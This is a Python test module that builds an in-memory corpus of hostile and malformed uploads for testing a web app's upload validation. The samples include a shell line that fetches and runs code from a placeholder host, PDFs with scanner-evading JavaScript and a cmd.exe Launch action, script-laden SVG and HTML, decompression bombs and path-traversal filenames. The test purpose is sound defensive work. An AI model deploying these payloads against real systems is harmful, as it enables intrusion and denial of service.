"""A corpus of broken and hostile uploads, built in memory by the tests that use it.

Nothing here is a committed file and nothing is a photo of a person: the images are Pillow
gradients, the programs are headers, the PDFs are written out by hand. Every ``Upload`` says what
Revisio must do with it on the photo paths and on the document paths:

* ``REFUSED``: a 4xx from the API, the form again with its error on a page; nothing stored.
* ``ACCEPTED``: a whole, decodable image (or, as a document, a clean PDF) however it is named or
  labelled, stored under a random name. Images are re-encoded, so ``payload`` (bytes an attacker
  smuggled in after the end of the image or in a text chunk) must not reach any stored file.

The oversized files are made on demand by ``Upload.data()`` and dropped after use, so the corpus
never holds several 25 MB buffers at once.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum

from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from tests.uploads.synthetic import HEIF_ENCODER, MINIMAL_PDF, encoded, gradient, png_declaring

MAX_UPLOAD_BYTES = 25 * 1024 * 1024  # the default REVISIO_MAX_UPLOAD_MB; the tests assert it is in force


class Expect(StrEnum):
    REFUSED = "refused"
    ACCEPTED = "accepted"


R, A = Expect.REFUSED, Expect.ACCEPTED


@dataclass(frozen=True)
class Upload:
    """One input: ``make`` builds its bytes; ``filename`` and ``content_type`` are what the browser says."""

    id: str
    make: Callable[[], bytes]
    photo: Expect
    document: Expect
    filename: str = "upload.jpg"
    content_type: str = "image/jpeg"
    payload: bytes = b""

    def data(self) -> bytes:
        return self.make()

    def expect(self, *, document: bool) -> Expect:
        return self.document if document else self.photo


# --- valid synthetic files -------------------------------------------------------------------


def jpeg() -> bytes:
    return encoded(gradient(64, 48), "JPEG", quality=90)


def png() -> bytes:
    return encoded(gradient(64, 48), "PNG")


def webp() -> bytes:
    return encoded(gradient(64, 48), "WEBP")


def heic() -> bytes:
    return encoded(gradient(64, 48), "HEIF")


IMAGES: dict[str, Callable[[], bytes]] = {
    "jpeg": jpeg,
    "png": png,
    "webp": webp,
    **({"heic": heic} if HEIF_ENCODER else {}),
}


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    """A PDF with ``objects`` numbered from 1, a cross-reference table and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, xref)
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"
CONTENT = stream(b"/Filter/FlateDecode", zlib.compress(b"BT /F1 12 Tf 20 100 Td (Invoice) Tj ET"))


def clean_pdf() -> bytes:
    """A one-page PDF with a compressed content stream: what a clinic's invoice looks like."""
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, CONTENT)


def pdf_with_random_looking_stream() -> bytes:
    """Binary stream data that happens to spell ``/JS`` and ``/Launch``: data, not a dictionary."""
    data = b"\x00\x8f/JS \x13/Launch\x00" + bytes(range(256))
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, stream(b"/Filter/DCTDecode", data))


def pdf_javascript() -> bytes:
    """Runs JavaScript when opened: an /OpenAction of type /JavaScript."""
    action = b"<</Type/Action/S/JavaScript/JS(app.alert\\('revisio'\\))>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", PAGES, PAGE, CONTENT, action)


def pdf_javascript_escaped() -> bytes:
    """The same, with the names spelled in ``#xx`` escapes, as malware does to evade scanners."""
    action = b"<</Type/Action/S/J#61vaScript/#4AS(app.alert\\(1\\))>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", PAGES, PAGE, CONTENT, action)


def pdf_javascript_in_object_stream() -> bytes:
    """The JavaScript action hidden in a compressed object stream (PDF 1.5)."""
    inner = b"<</Type/Action/S/JavaScript/JS(app.alert\\(2\\))>>"
    objects = stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"6 0 " + inner))
    return pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", PAGES, PAGE, CONTENT, objects)


def pdf_launch() -> bytes:
    """Asks the reader to start a program."""
    action = b"<</Type/Action/S/Launch/F(cmd.exe)>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", PAGES, PAGE, CONTENT, action)


def pdf_object_stream_bomb() -> bytes:
    """An object stream of 40 KB that inflates to 40 MB: more than anyone's invoice holds."""
    objects = stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(bytes(40 * 1024 * 1024), 9))
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, CONTENT, objects)


# --- broken and hostile files ----------------------------------------------------------------


def truncated(make: Callable[[], bytes], keep: float) -> Callable[[], bytes]:
    """The first ``keep`` of the file (a fraction), or the first ``keep`` bytes when it is above 1."""

    def cut() -> bytes:
        data = make()
        return data[: int(keep) if keep > 1 else int(len(data) * keep)]

    return cut


GARBAGE = b"<script>alert('revisio')</script>" + bytes(range(256))
ZIP_PAYLOAD = b"<html><script>alert('zip')</script></html>"


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", ZIP_PAYLOAD)
        archive.writestr("photo.jpg", jpeg())
    return buffer.getvalue()


PNG_SCRIPT = b"<script>alert('png')</script>"


def png_with_html_text() -> bytes:
    """tEXt, zTXt and iTXt chunks each holding a web page with a script."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<html><body>" + PNG_SCRIPT.decode() + "</body></html>")
    info.add_text("Description", PNG_SCRIPT.decode(), zip=True)
    info.add_itxt("Title", PNG_SCRIPT.decode())
    return encoded(gradient(64, 48), "PNG", pnginfo=info)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_ztxt_bomb() -> bytes:
    """A zTXt chunk of 100 KB that inflates to 100 MB, before the image data."""
    data = png()
    ihdr_end = 8 + 25  # signature, then IHDR: length, type, 13 bytes, CRC
    text = b"Comment\x00\x00" + zlib.compress(bytes(100 * 1024 * 1024), 9)
    return data[:ihdr_end] + png_chunk(b"zTXt", text) + data[ihdr_end:]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims ``width`` × ``height`` pixels."""
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_declaring(width: int, height: int) -> bytes:
    """A small WebP behind an extended header (VP8X) whose canvas claims ``width`` × ``height``."""
    frame = webp()[12:]  # the VP8 chunk of a real 64 x 48 image
    header = b"VP8X" + struct.pack("<I", 10) + bytes(4)
    header += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + header + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def exif_bomb() -> bytes:
    """A JPEG whose EXIF claims 65 535 entries, tags a billion values long and an IFD that points at itself."""
    entries = [
        struct.pack("<HHII", 0x010F, 2, 0x3FFFFFFF, 8),  # Make: a billion characters
        struct.pack("<HHII", 0x0111, 4, 0x3FFFFFFF, 8),  # StripOffsets: a billion numbers
        struct.pack("<HHII", 0x8769, 4, 1, 8),  # the Exif IFD is IFD0 again: a loop
    ]
    tiff = b"II*\x00" + struct.pack("<IH", 8, 0xFFFF) + b"".join(entries) + struct.pack("<I", 8) + bytes(60_000)
    app1 = b"Exif\x00\x00" + tiff
    data = jpeg()
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + data[2:]


def oversized(magic: bytes, tail: bytes = b"") -> Callable[[], bytes]:
    """One byte over the limit, starting with ``magic``: refused by its size before anything reads it."""
    return lambda: magic + bytes(MAX_UPLOAD_BYTES + 1 - len(magic) - len(tail)) + tail


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)
PE = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(16)
MACHO = b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(32)
SHEBANG = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><script>alert('svg')</script></svg>"
SVG_PROLOG = b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- drawn by hand -->\n' + SVG
HTML = b"<!DOCTYPE html><html><head><script>alert('html')</script></head><body>invoice</body></html>"


def gif() -> bytes:
    return encoded(gradient(64, 48), "GIF", comment=b"<script>alert('gif')</script>")


def tiff() -> bytes:
    return encoded(gradient(64, 48), "TIFF")


def _fixed(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _corpus() -> list[Upload]:
    items = [
        Upload("empty", _fixed(b""), R, R),
        Upload("one-byte", _fixed(b"\xff"), R, R),
        Upload("jpeg-magic-only", _fixed(b"\xff\xd8\xff"), R, R),
    ]
    for name, make in IMAGES.items():
        for keep in (8, 16, 0.25, 0.5, 0.75):
            items.append(Upload(f"truncated-{name}-{keep}", truncated(make, keep), R, R, f"photo.{name}"))
    items += [
        Upload("jpeg-without-eoi", lambda: jpeg()[:-2], R, R),
        # Whole images with something after or inside them: decodable, so taken and re-encoded.
        Upload("jpeg-garbage-after-eoi", lambda: jpeg() + GARBAGE, A, A, payload=GARBAGE[:33]),
        Upload("jpeg-zip-polyglot", lambda: jpeg() + zip_archive(), A, A, payload=ZIP_PAYLOAD),
        Upload("jpeg-pdf-polyglot", lambda: jpeg() + pdf_javascript(), A, A, payload=b"/JavaScript"),
        Upload("png-html-in-text-chunks", png_with_html_text, A, A, "photo.png", "image/png", PNG_SCRIPT),
        Upload("exif-bomb", exif_bomb, A, A, payload=b"Exif\x00\x00"),
        # Not a photo of any kind Revisio takes.
        Upload("html-renamed-png", _fixed(HTML), R, R, "photo.png", "image/png"),
        Upload("html", _fixed(HTML), R, R, "invoice.html", "text/html"),
        Upload("gif", gif, R, R, "photo.gif", "image/gif"),
        Upload("tiff", tiff, R, R, "scan.tif", "image/tiff"),
        Upload("svg-script", _fixed(SVG), R, R, "photo.svg", "image/svg+xml"),
        Upload("svg-script-xml-prolog", _fixed(SVG_PROLOG), R, R, "photo.svg", "image/svg+xml"),
        Upload("svg-bom-named-jpg", _fixed(b"\xef\xbb\xbf" + SVG), R, R),
        Upload("elf", _fixed(ELF), R, R, "photo.jpg"),
        Upload("pe-exe", _fixed(PE), R, R, "setup.exe", "application/x-msdownload"),
        Upload("mach-o", _fixed(MACHO), R, R, "photo.jpg"),
        Upload("shebang-script", _fixed(SHEBANG), R, R, "photo.jpg"),
        Upload("zip", zip_archive, R, R, "photos.zip", "application/zip"),
        Upload("pdf-header-then-jpeg", lambda: b"%PDF-1.7\n%" + jpeg(), R, R, "report.pdf", "application/pdf"),
        # PDFs: photos never; documents only when clean.
        Upload("pdf-javascript", pdf_javascript, R, R, "report.pdf", "application/pdf"),
        Upload("pdf-javascript-escaped-names", pdf_javascript_escaped, R, R, "report.pdf", "application/pdf"),
        Upload("pdf-javascript-object-stream", pdf_javascript_in_object_stream, R, R, "report.pdf", "application/pdf"),
        Upload("pdf-launch-action", pdf_launch, R, R, "report.pdf", "application/pdf"),
        Upload("pdf-object-stream-bomb", pdf_object_stream_bomb, R, R, "report.pdf", "application/pdf"),
        Upload("pdf-clean", clean_pdf, R, A, "invoice.pdf", "application/pdf"),
        Upload("pdf-binary-stream", pdf_with_random_looking_stream, R, A, "scan.pdf", "application/pdf"),
        # Decompression bombs: tiny files declaring 2.5 gigapixels.
        Upload("png-50000x50000", lambda: png_declaring(50_000, 50_000), R, R, "photo.png", "image/png"),
        Upload("jpeg-50000x50000", lambda: jpeg_declaring(50_000, 50_000), R, R),
        Upload("webp-50000x50000", lambda: webp_declaring(50_000, 50_000), R, R, "photo.webp", "image/webp"),
        Upload("png-ztxt-bomb", png_ztxt_bomb, R, R, "photo.png", "image/png"),
        # One byte over the size limit.
        Upload("oversized-jpeg", oversized(b"\xff\xd8\xff\xe0"), R, R),
        Upload("oversized-pdf", oversized(b"%PDF-1.7\n", b"\n%%EOF\n"), R, R, "report.pdf", "application/pdf"),
        # The name and the type the browser sends lie: the bytes decide.
        Upload("pdf-named-jpg", clean_pdf, R, A, "photo.jpg", "image/jpeg"),
        Upload("jpeg-named-pdf", jpeg, A, A, "report.pdf", "application/pdf"),
        Upload("png-named-exe", png, A, A, "photo.exe", "application/x-msdownload"),
        Upload("html-as-jpeg", _fixed(HTML), R, R, "photo.jpg", "image/jpeg"),
        # Names that must never become a path or part of one.
        Upload("name-path-traversal", jpeg, A, A, "../../../../etc/cron.d/x.jpg"),
        Upload("name-windows-traversal", jpeg, A, A, "..\\..\\..\\windows\\x.jpg"),
        Upload("name-nul-byte", jpeg, A, A, "photo.jpg\x00.php"),
        Upload("name-very-long", jpeg, A, A, "x" * 1000 + ".jpg"),
        Upload("name-unicode", jpeg, A, A, "사진 📷 \u202egpj.exe"),
        Upload("name-traversal-elf", _fixed(ELF), R, R, "../../bin/sh"),
        # Valid files, which every path must take.
        *(Upload(f"valid-{name}", make, A, A, f"photo.{name}", f"image/{name}") for name, make in IMAGES.items()),
    ]
    return items


CORPUS = _corpus()


# --- seeded random mutations of valid files --------------------------------------------------

SEEDS: dict[str, Callable[[], bytes]] = {**IMAGES, "pdf": clean_pdf}


def _chunks(data: bytes, size: int) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)]


@st.composite
def mutated(draw: st.DrawFn) -> tuple[str, bytes]:
    """A valid synthetic file with bits flipped, cut short, or with chunks of it shuffled."""
    kind = draw(st.sampled_from(sorted(SEEDS)))
    data = bytearray(SEEDS[kind]())
    how = draw(st.sampled_from(["flip", "truncate", "shuffle"]))
    if how == "flip":
        for _ in range(draw(st.integers(1, 8))):
            position = draw(st.integers(0, len(data) - 1))
            data[position] ^= 1 << draw(st.integers(0, 7))
    elif how == "truncate":
        data = data[: draw(st.integers(0, len(data) - 1))]
    else:
        chunks = _chunks(bytes(data), draw(st.sampled_from([16, 64, 256])))
        head, rest = chunks[:1], chunks[1:]
        data = bytearray(b"".join(head + draw(st.permutations(rest))))
    return f"{kind}-{how}", bytes(data)


def decodes(data: bytes) -> bool:
    """Whether Pillow reads ``data`` as a whole image (used only to describe test failures)."""
    try:
        with Image.open(io.BytesIO(data)) as image:
            image.load()
    except Exception:
        return False
    return True


__all__ = ["CORPUS", "MAX_UPLOAD_BYTES", "MINIMAL_PDF", "Expect", "Upload", "mutated"]
